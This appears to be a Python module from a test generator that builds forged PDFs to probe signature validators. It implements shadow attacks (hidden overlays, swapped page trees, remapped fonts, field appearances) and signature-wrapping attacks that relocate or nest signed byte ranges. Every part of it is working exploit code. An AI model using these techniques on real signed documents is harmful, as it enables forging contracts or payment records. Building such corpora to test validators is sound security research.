"""What is hidden in the file before it is signed, and signed bytes that are no longer the document: shadow attacks and signature wrapping."""

from attackmaker import *


class Shadow:
    # shadow: what is hidden is in the file already when the honest signer signs

    def shadow(self):
        def prepared(mode):
            """A base with an overlay, a second content, or a field that shows something else than it holds."""
            body = b"BT /F1 14 Tf 72 640 Td (Group: 1, Amount: 950.00 AZN) Tj ET"
            innocent = b"BT /F1 14 Tf 72 640 Td (Group: 3, Amount: 150.00 AZN) Tj ET"
            cover = stream(b"q 1 1 1 rg 0 0 600 850 re f Q " + innocent, b"/Type/XObject/Subtype/Form/BBox[0 0 600 850]/Resources<</Font<</F1 3 0 R>>>>")
            resources = b"/Resources<</Font<</F1 3 0 R>>/XObject<</X 6 0 R>>>>"
            text = {"hide": body + b" /X Do", "annotation": body, "replace": innocent, "both": innocent}[mode]
            o = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 1/Kids[4 0 R]>>", 3: FONT,
                 4: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + resources + b"/Contents 5 0 R" + (b"/Annots[10 0 R]" if mode == "annotation" else b"") + b">>",
                 5: stream(text), 6: cover, 7: b"<</Type/Page/Parent 8 0 R/MediaBox[0 0 595 842]" + resources + b"/Contents 9 0 R>>",
                 8: b"<</Type/Pages/Count 1/Kids[7 0 R]>>", 9: stream(body),
                 10: b"<</Type/Annot/Subtype/Stamp/Rect[0 0 595 842]/F 4/AP<</N 6 0 R>>>>"}
            out = io.BytesIO()
            out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
            offsets = {}
            for n in sorted(o):
                offsets[n] = out.tell()
                out.write(b"%d 0 obj\n" % n + o[n] + b"\nendobj\n")
                if n == 5 and mode == "both":
                    # A second object of the same number, which no table leads to yet.
                    self.second = out.tell()
                    out.write(b"5 0 obj\n" + stream(body) + b"\nendobj\n")
            start = out.tell()
            out.write(b"xref\n0 11\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in sorted(o)))
            out.write(b"trailer\n<</Size 11/Root 1 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]>>\nstartxref\n%d\n%%%%EOF\n" % start)
            return out.getvalue()

        for how, meta in (("approval", {}), ("p1", {"certify": True, "docmdp_permissions": MDPPerm.NO_CHANGES}), ("p2", {"certify": True, "docmdp_permissions": MDPPerm.FILL_FORMS})):
            def after(mode, change):
                def make(_):
                    f = File(self.sign(prepared(mode), **meta))
                    u = Update(f)
                    change(f, u)
                    return u.write()
                return make
            self.put(f"shadow-hide-{how}", "the overlay that hid the page's text is emptied after signing",
                     after("hide", lambda f, u: u.objects.update({6: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]")})), ["made"])
            self.put(f"shadow-hide-free-{how}", "the overlay that hid the page's text is marked as free", after("hide", lambda f, u: u.free.append(6)), ["made"])
            self.put(f"shadow-hide-annotation-{how}", "the annotation that hid the page's text is removed",
                     after("annotation", lambda f, u: u.objects.update({10: b"<</Type/Annot/Subtype/Stamp/Rect[0 0 0 0]/F 2>>"})), ["made"])
            self.put(f"shadow-replace-pages-{how}", "the catalog is led to a page tree that lay hidden in the signed bytes",
                     after("replace", lambda f, u: u.put(f.pdf.Root, plain(f.pdf.Root, Pages=b"8 0 R"))), ["made"])
            self.put(f"shadow-replace-kids-{how}", "the page tree is led to a page that lay hidden in the signed bytes",
                     after("replace", lambda f, u: u.objects.update({2: b"<</Type/Pages/Count 1/Kids[7 0 R]>>"})), ["made"])
            self.put(f"shadow-replace-font-{how}", "a font that is not embedded is written again with other digits",
                     after("replace", lambda f, u: u.objects.update({3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[49/nine 51/one]>>>>"})), ["made"])
            self.put(f"shadow-hide-and-replace-{how}", "only a table is appended: the content's number is led to a second object in the signed bytes",
                     after("both", lambda f, u: u.redirect.update({5: self.second})), ["made"])

        def field_shadow(_):
            """The look hides the value that the field holds; after signing the look is drawn from the value."""
            base = bases.drawn(1, form=True)
            p = pikepdf.open(io.BytesIO(base))
            for x in p.Root.AcroForm.Fields:
                if str(x.T) == "town":
                    x.V = pikepdf.String("Group: 1")
            f = File(self.sign(bases.saved(p), certify=True, docmdp_permissions=MDPPerm.NO_CHANGES))
            u = Update(f)
            for x in walk(f.pdf.Root.AcroForm.Fields):
                if str(x.get("/T", "")) == "town":
                    u.put(x, plain(x, AP=None))
            form = f.pdf.Root.AcroForm
            (u.put(form, plain(form, NeedAppearances=b"true")) if form.is_indirect else u.put(f.pdf.Root, plain(f.pdf.Root, AcroForm=plain(form, NeedAppearances=b"true"))))
            return u.write()
        self.put("shadow-replace-field", "a field's look is dropped so that its hidden value is drawn", field_shadow, ["made"])

    # signature wrapping: the signed bytes are there, but no longer the document

    def wrapping(self):
        def swa(pdf):
            """The second signed part moves to the end; where its table was, the attacker's stands."""
            f = File(pdf)
            if f.streams:
                raise ValueError("stream")
            gap = f.contents()
            r = [int(x) for x in f.field().V.ByteRange]
            part1, contents, part2 = pdf[:r[1]], pdf[gap[0]:gap[1]], pdf[r[2]:r[2] + r[3]]
            first = pdf[:r[2] + r[3]]
            old = int(re.findall(rb"startxref\s+(\d+)", first)[-1])
            if old < r[2]:
                raise ValueError("table before the signature")
            g = File(first)
            n = g.size
            signature, page = g.field(), g.page()
            table_room = 4096
            body = part1 + contents
            body += b">>\nendobj\n"
            body = body.ljust(old, b"\n")
            table = body
            objects = {n: stream(COVER), page.objgen[0]: plain(page, Contents=b"%d 0 R" % n, Resources=RESOURCES)}
            for x in walk(g.pdf.Root.AcroForm.Fields):
                objects.setdefault(x.objgen[0], plain(x))
            objects.setdefault(g.root[0], plain(g.pdf.Root))
            if g.pdf.Root.AcroForm.is_indirect:
                objects.setdefault(g.pdf.Root.AcroForm.objgen[0], plain(g.pdf.Root.AcroForm))
            for o in g.pdf.objects:
                if o.is_indirect and o.objgen[0] not in objects and isinstance(o, pikepdf.Dictionary) and not isinstance(o, pikepdf.Stream) and "/ByteRange" not in o:
                    objects[o.objgen[0]] = plain(o)
                elif o.is_indirect and isinstance(o, pikepdf.Stream) and re.search(rb"(?<!\d)%d 0 obj" % o.objgen[0], part2):
                    objects[o.objgen[0]] = stream(o.read_raw_bytes(), b"".join(k.encode() + b" " + (v.unparse() if isinstance(v, pikepdf.Object) else str(v).encode()) for k, v in o.items() if k != "/Length"))
            at, offsets, blob = old + table_room, {}, b""
            for k, v in sorted(objects.items()):
                offsets[k] = at + len(blob)
                blob += b"%d 0 obj\n" % k + v + b"\nendobj\n"
            where = at + len(blob)
            offsets[signature.V.objgen[0]] = where
            head = b"%d 0 obj\n" % signature.V.objgen[0]
            value = plain(signature.V, ByteRange=b"[0 %010d %010d %010d]" % (r[1], 0, r[3]), Contents=contents)
            second = where + len(head) + len(value) + len(b"\nendobj\n")
            value = plain(signature.V, ByteRange=b"[0 %010d %010d %010d]" % (r[1], second, r[3]), Contents=contents)
            blob += head + value + b"\nendobj\n"
            rows = b"".join(b"%d 1\n%010d 00000 n \n" % (k, v) for k, v in sorted(offsets.items()))
            earlier = [int(x) for x in re.findall(rb"/Prev (\d+)", first[old:])]
            trailer = b"xref\n" + rows + b"trailer\n<</Size %d/Root %d 0 R" % (n + 1, g.root[0]) + (b"/Prev %d" % earlier[0] if earlier else b"") + b">>\n"
            assert len(trailer) < table_room
            return table + trailer.ljust(table_room, b"\n") + blob + part2
        over = ["pyhanko-base-hand14", "pyhanko-base-reportlab", "openssl-p256", "pdfsign-p256", "pdfbox-ber-rsa2048", "openpdf-rsa2048", "pyhanko-base-hand-crlf", "signpdf-plain-adbe-rsa2048", "dss-certified-p1"]
        self.put("wrap-moved-part", "the second signed part is moved behind the attacker's objects and table", swa, over)

        def shell(pdf, at_end):
            """The genuine file lies inside another; its ByteRange starts where it lies."""
            f = File(pdf)
            v = f.field().V
            r = [int(x) for x in v.ByteRange]
            head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
            objects = {1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/SigFlags 3>>>>", 2: b"<</Type/Pages/Count 1/Kids[4 0 R]>>", 3: FONT,
                       4: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>/Contents 5 0 R/Annots[6 0 R]>>", 5: stream(EVIL),
                       6: b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature1)/V 7 0 R/Rect[0 0 0 0]/F 132/P 4 0 R>>"}
            if at_end:
                out = head
                begin = None
            else:
                out = head + b"8 0 obj\n" + b"<</Length %d>>\nstream\n" % len(pdf)
                begin = len(out)
                out += pdf + b"\nendstream\nendobj\n"
            offsets = {}
            for n, o in objects.items():
                offsets[n] = len(out)
                out += b"%d 0 obj\n" % n + o + b"\nendobj\n"
            offsets[7] = len(out)
            signature = lambda start: (b"7 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter" + v.SubFilter.unparse() + b"/ByteRange[%010d %010d %010d %010d]/Contents<" % (
                start, r[1], start + r[2], r[3]) + bytes(v.Contents).hex().encode() + b">>>\nendobj\n")
            length = len(signature(0))
            rows = b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 8))
            table_at = len(out) + length
            end = b"xref\n0 8\n0000000000 65535 f \n" + rows + b"trailer\n<</Size 8/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % table_at
            if begin is None:
                begin = table_at + len(end)
                return out + signature(begin) + end + pdf + b"\nstartxref\n%d\n%%%%EOF\n" % table_at
            return out + signature(begin) + end
        self.put("wrap-inside", "the genuine file is a stream in another file, whose signature points to it", lambda pdf: shell(pdf, False), USUAL, count=5)
        self.put("wrap-behind", "the genuine file follows another one, whose signature points to it", lambda pdf: shell(pdf, True), USUAL, count=4)

        def junk(pdf):
            return b"%PDF-1.4\n1 0 obj\n" + stream(EVIL) + b"\nendobj\n" + pdf
        self.put("wrap-prefix", "something stands before the signed file", junk, USUAL, count=3)
